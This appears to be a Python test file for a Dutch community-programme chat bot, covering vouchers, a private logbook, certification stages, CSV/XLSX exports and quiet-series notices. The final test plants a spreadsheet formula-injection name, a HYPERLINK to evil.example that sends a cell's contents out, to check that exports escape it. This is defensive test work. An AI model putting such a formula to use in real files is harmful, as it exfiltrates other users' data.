"""Vouchers from request to paid, the private logbook, the certificate and stages, the
overview with its CSV and XLSX exports, and the notice when a series goes quiet."""

from __future__ import annotations

import copy
import csv
import io
import json

from openpyxl import load_workbook

from tests.fakes.journeys import TRAINER
from tests.test_kwartiermaker_logs_a_series import log


async def make_series(noor, title="Naaiatelier", planned="4") -> None:
    await noor.send("/series")
    await noor.send(title)
    await noor.click("🎨 Vaardigheden delen")
    await noor.click("Volgende")
    await noor.click("Nog geen plek")
    await noor.click(planned)
    await noor.click("Geen medeorganisator")


async def request(noor, amount: str, purpose: str = "Stof en naalden") -> list:
    await noor.send("/voucher")
    await noor.send(amount)
    await noor.send(purpose)
    await noor.click(1)
    return await noor.click("Verstuur")


async def test_voucher_from_request_to_paid(bot, cohort):
    trainer, noor, _ = cohort
    await make_series(noor)
    await noor.send("/voucher")
    replies = await noor.send("750")
    assert "hoogstens € 500,00" in replies[0].text.replace("\xa0", " ")
    await noor.send("350,50")
    await noor.send("Stof en naalden")
    await noor.click("Naaiatelier")
    replies = await noor.click("Verstuur")
    assert "Verstuurd" in replies[-1].text
    await bot.deliver()  # the trainer hears of it without having to look
    assert trainer.last.text.replace("\xa0", " ") == (
        "🎟 Noor vraagt een voucher van € 350,50: Stof en naalden\n/vouchers om te beslissen.")
    await trainer.send("/vouchers")
    card = copy.deepcopy(trainer.last_with_buttons())  # the phone keeps showing it
    assert "Noor: € 350,50 – Stof en naalden" in card.text.replace("\xa0", " ")
    await trainer.click("Goedkeuren")
    await trainer.click("Goedkeuren", message=card)  # an old card: decided already
    assert "al besloten" in trainer.last.text
    await bot.deliver()
    assert "goedgekeurd" in noor.last.text
    await trainer.send("/vouchers")
    await trainer.click("Betaald")
    await bot.deliver()
    assert "betaald" in noor.last.text
    assert await bot.rows("SELECT status, amount_cents FROM voucher") == [("paid", 35050)]
    text = (await noor.send("/voucher"))[0].text
    assert "betaald" in text


async def test_rejected_with_a_reason_and_the_programme_cap(bot, cohort):
    trainer, noor, _amal = cohort
    await make_series(noor)
    await request(noor, "100")
    await trainer.send("/vouchers")
    await trainer.click("Afwijzen")
    await trainer.send("Dit past beter bij het buurtbudget.")
    await bot.deliver()
    assert "niet goedgekeurd" in noor.last.text and "buurtbudget" in noor.last.text
    bot.with_settings(voucher_count=1)
    await bot.restart()
    await request(noor, "200")
    await trainer.send("/vouchers")
    await trainer.click("Goedkeuren")
    replies = await request(noor, "50")
    assert "Alle 1 waardebonnen" in replies[-1].text
    assert await bot.rows("SELECT status FROM voucher ORDER BY id") == [
        ("rejected",), ("approved",)]
    assert "Dit kan niet in jouw rol" in (await noor.send("/vouchers"))[-1].text
    assert "Dit kan niet in jouw rol" in (await trainer.send("/voucher"))[-1].text


async def test_logbook_is_private_and_in_mydata(bot, cohort):
    trainer, noor, amal = cohort
    await noor.send("/logbook")
    await noor.send("Vandaag kwam er voor het eerst iemand uit de flat ernaast.")
    await noor.send("/logbook")
    await noor.send_voice(duration=20)
    replies = await noor.send("/logbook")
    assert "Vandaag kwam er" in replies[0].text and "🎤" in replies[0].text
    await noor.click("Annuleren")
    data = json.loads((await noor.send("/mydata"))[-1].file_bytes)
    assert [e["voice_seconds"] for e in data["logbook"]] == [None, 20]
    amal_data = json.loads((await amal.send("/mydata"))[-1].file_bytes)
    assert amal_data["logbook"] == []
    assert "Dit kan niet in jouw rol" in (await trainer.send("/logbook"))[-1].text


async def test_stages_overview_and_exports_match_the_data(bot, cohort):
    trainer, noor, _amal = cohort
    await trainer.send("/certify")
    await trainer.click("Amal")
    await trainer.click("Leerlingcertificaat")
    await make_series(noor, planned="4")
    for _ in range(4):
        await log(noor, people="5")
        bot.clock.advance(days=7)
    await request(noor, "120")
    # The stage is what a trainer recorded: a complete series alone makes nobody a master.
    assert "👤 Noor · in opleiding" in (await trainer.send("/table"))[-1].text
    for step in ("Leerlingcertificaat", "Meesterproef gehaald"):
        await trainer.send("/certify")
        await trainer.click("Noor")
        await trainer.click(step)
    text = (await trainer.send("/table"))[-1].text.replace("\xa0", " ")
    assert "👤 Noor · meester" in text and "👤 Amal · leerling" in text
    assert "Naaiatelier: 4/4 sessies, 4 met verslag, 20 bereikt, te goed € 160,00" in text

    replies = await trainer.click("CSV")
    rows = list(csv.reader(io.StringIO(replies[-1].file_bytes.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Kwartiermaker", "Fase", "Reeks"]
    noor_row = next(r for r in rows if r[0] == "Noor")
    assert noor_row == ["Noor", "meester", "Naaiatelier", "🎨 Vaardigheden delen", "4", "4",
                        "4", "20", "4",
                        "4", "4", "0", "aangevraagd", "160.00"]
    replies = await trainer.click("XLSX")
    sheet = load_workbook(io.BytesIO(replies[-1].file_bytes)).active
    xlsx = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert xlsx[0] == rows[0]
    assert next(r for r in xlsx if r[0] == "Noor")[4:] == [4, 4, 4, 20, 4, 4, 4, 0,
                                                           "aangevraagd", 160.0]
    assert "Dit kan niet in jouw rol" in (await noor.send("/table"))[-1].text
    assert not sheet.sheet_view.rightToLeft

    await trainer.send("/language")
    await trainer.click("العربية")
    await trainer.send("/table")
    book = load_workbook(io.BytesIO((await trainer.click("XLSX"))[-1].file_bytes))
    assert book.active.sheet_view.rightToLeft  # an Arabic sheet runs from the right
    assert book.active.title == "نظرة عامة" and book.active["A1"].value == "منسّق الحي"


async def test_a_quiet_series_is_noticed_once(bot, cohort):
    _trainer, noor, _ = cohort
    from bot.services import notices, programme

    await make_series(noor)
    await log(noor)
    # a series is quiet after 21 days: series_quiet_days of the (default) settings

    async def notice() -> int:
        return await programme.notice_quiet_series(bot.request(), notices.quiet_series)

    bot.clock.advance(days=20)
    assert await notice() == 0
    bot.clock.advance(days=2)
    assert await notice() == 1
    await bot.deliver()
    assert 'Geen sessie vastgelegd in 22 dagen in de reeks "Naaiatelier" van Noor' in \
        bot.user(TRAINER).last.text
    bot.clock.advance(days=3)
    assert await notice() == 0  # once per quiet spell


async def test_exports_never_run_a_formula_someone_typed_as_their_name(bot, cohort):
    import csv
    import io

    from openpyxl import load_workbook

    trainer, _, _ = cohort
    sly = bot.user(777, '=HYPERLINK("http://evil.example/?"&B2,"Klik")')
    from tests.fakes.journeys import join, make_invite

    await join(sly, await make_invite(trainer))
    await trainer.send("/table")
    await trainer.click("CSV")
    rows = list(csv.reader(io.StringIO(trainer.last.file_bytes.decode("utf-8-sig"))))
    names = [row[0] for row in rows[1:]]
    assert "'=HYPERLINK(\"http://evil.example/?\"&B2,\"Klik\")" in names
    await trainer.click("XLSX", message=trainer.last_with_buttons())
    sheet = load_workbook(io.BytesIO(trainer.last.file_bytes)).active
    cells = [c for c in sheet["A"] if str(c.value).startswith(("'=", "="))]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
